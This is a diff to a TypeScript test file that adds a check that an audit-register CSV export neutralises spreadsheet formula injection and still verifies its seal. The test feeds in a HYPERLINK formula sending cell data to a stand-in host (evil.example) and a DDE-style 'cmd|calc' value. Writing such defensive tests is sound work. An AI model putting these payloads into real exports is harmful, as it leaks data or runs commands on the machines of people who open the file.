@@ -2,7 +2,7 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import request from 'supertest';
-import { sha256OfBytes, signExportSeal, type ExportSeal } from '../src/audit/export-seal';
+import { parseCsv, sha256OfBytes, signExportSeal, type ExportSeal } from '../src/audit/export-seal';
 import { verifyExport } from '../src/audit/export-verify';
 import { main as cli } from '../src/cli/orgledger';
 import { startHarness, type Harness } from './support/harness';
@@ -150,6 +150,28 @@ describe('export of the decision register', () => {
       const resealed = body + JSON.stringify({ kind: 'seal', ...signExportSeal({ ...seal, exportDigest: sha256OfBytes(body) }, h.ctx.config.auditKey.privateKey) }) + '\n';
       expect(verifyExport(resealed, publicKey)).toMatchObject({ ok: false, problem: expect.stringMatching(/prevHash does not link|does not end where the checkpoint sealed it/) });
     });
+  });
+
+  it("neutralises a service director's formula in the CSV before it is sealed, and the export still verifies", async () => {
+    const FORMULA = '=HYPERLINK("https://evil.example/?"&C2,"Details")';
+    const director = await h.signIn('director.highways@northshire.example');
+    const programmeId = (await h.gql(auditor, '{ authorities { id programmes { id } } }')).body.data!.authorities.find((a: { id: string }) => a.id === northshire).programmes[0].id;
+    const deal = (await h.gql(director, 'query($p: ID!) { fteDeals(programmeId: $p) { id version terms { sourcePosts { postId fte } budget { financialYear pence } effectiveDate linkedChange rationale } } }', { p: programmeId })).body.data!.fteDeals[0];
+    const { sourcePosts, budget, effectiveDate, linkedChange } = deal.terms;
+    const amended = await h.gql(director, 'mutation($i: DealOfferInput!) { proposeFteDealAmendment(input: $i) { id } }', {
+      i: { dealId: deal.id, reason: FORMULA, terms: { sourcePosts, budget, effectiveDate, linkedChange, rationale: '@SUM(1+1)*cmd|calc' } },
+    });
+    expect(amended.body.errors).toBeUndefined();
+
+    const text = (await download(auditor, northshire, 'csv')).body as string;
+    const rows = parseCsv(text);
+    const cells = rows.flat();
+    expect(cells).toContain(`'${FORMULA}`);
+    // no cell a spreadsheet would run: every one starting = + - @ tab or CR is a plain number
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
+    expect(verifyExport(text, publicKey)).toMatchObject({ ok: true });
+    // the JSON register keeps the reason as given, for a program to read
+    expect((await download(auditor, northshire, 'jsonl')).body as string).toContain(JSON.stringify(FORMULA).slice(1, -1));
   });
 
   it('answers a client error, never a fault, to an export asked for in as-at mode', async () => {
